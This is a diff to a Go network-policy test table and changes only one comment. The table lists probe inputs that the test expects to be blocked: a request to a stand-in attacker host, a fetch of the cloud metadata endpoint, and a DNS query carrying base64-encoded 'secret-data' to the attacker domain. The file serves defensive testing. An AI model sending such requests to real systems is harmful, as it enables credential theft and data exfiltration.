@@ -259,7 +259,7 @@ func TestPortsWithoutRedirectL3(t *testing.T) {
 		"ask web.example 8.8.8.8:53":                     "[198.18.",
 		"get https://evil.example/":                      "no:",
 		"get http://169.254.169.254/latest/meta-data":    "no:",
-		"say tcp 93.184.217.7:9000 x":                    "connection refused", // listed, but nobody listens on this port
+		"say tcp 93.184.217.7:9000 x":                    "connection refused", // listed, but no process listens on this port
 		"say tcp 93.184.216.99:443 x":                    "no:",
 		"say udp 93.184.216.34:443 x":                    "no:",
 		"ask c2VjcmV0LWRhdGE.evil.example 198.18.0.1:53": "no:",
